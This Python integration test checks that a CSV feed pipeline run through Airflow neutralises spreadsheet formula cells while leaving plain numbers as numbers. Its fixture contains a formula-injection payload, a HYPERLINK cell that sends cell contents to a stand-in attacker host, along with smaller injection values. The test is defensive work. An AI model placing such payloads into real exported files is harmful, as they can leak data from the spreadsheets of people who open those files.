"""Feed → feed through real Airflow: formula cells are neutralised in the feedback file and, unless
the profile turns it off, in the output feed; plain numbers stay numbers (issue 17)."""
from __future__ import annotations

import uuid
from pathlib import Path

import pytest

pytestmark = pytest.mark.integration

FEED = (
    "sku;name~en_US;qty;note;@col\n"
    'A-1;=HYPERLINK("http://evil.test/?"&A1,"click");-5;fine;x\n'
    "A-2;@SUM(1+1);+3.50;\t=1+1;x\n"
    ";=1+1;-2+3;@note;x\n"
)

PROFILE = """
id: {dag_id}
source: {{kind: feed, path: in.csv, delimiter: ";"}}
target: {{kind: feed, path: out.csv{option}}}
mapping:
  columns:
    - {{name: sku, required: true}}
    - {{name: title, from: "name~en_US"}}
    - {{name: qty}}
    - {{name: note}}
feedback:
  max_error_rate: 0.9
retries: 0
"""

FEEDBACK = (
    "sku;name~en_US;qty;note;'@col;code;message\n"
    ";'=1+1;'-2+3;'@note;x;missing_value;sku: required value is empty (from sku)\n"
)


def run(tmp_path: Path, run_profile, option: str = ""):
    (tmp_path / "in.csv").write_text(FEED, encoding="utf-8")
    path = tmp_path / "profile.yaml"
    path.write_text(PROFILE.format(dag_id=f"test_formulas_{uuid.uuid4().hex[:8]}", option=option), encoding="utf-8")
    dag_run, staging = run_profile(path)
    assert dag_run.state == "success"
    return (tmp_path / "out.csv").read_text(encoding="utf-8"), (staging / "feedback.csv").read_text(encoding="utf-8")


def test_feed_output_and_feedback_neutralise_formulas_and_keep_numbers(tmp_path, run_profile):
    output, feedback = run(tmp_path, run_profile)
    assert output == (
        "sku,title,qty,note\n"
        'A-1,"\'=HYPERLINK(""http://evil.test/?""&A1,""click"")",-5,fine\n'
        "A-2,'@SUM(1+1),+3.50,'\t=1+1\n")
    assert feedback == FEEDBACK


def test_a_feed_for_machines_can_keep_its_cells_literal(tmp_path, run_profile):
    output, feedback = run(tmp_path, run_profile, option=", escape_formulas: false")
    assert output == (
        "sku,title,qty,note\n"
        'A-1,"=HYPERLINK(""http://evil.test/?""&A1,""click"")",-5,fine\n'
        "A-2,@SUM(1+1),+3.50,\t=1+1\n")
    assert feedback == FEEDBACK  # the feedback file is for people: always neutralised
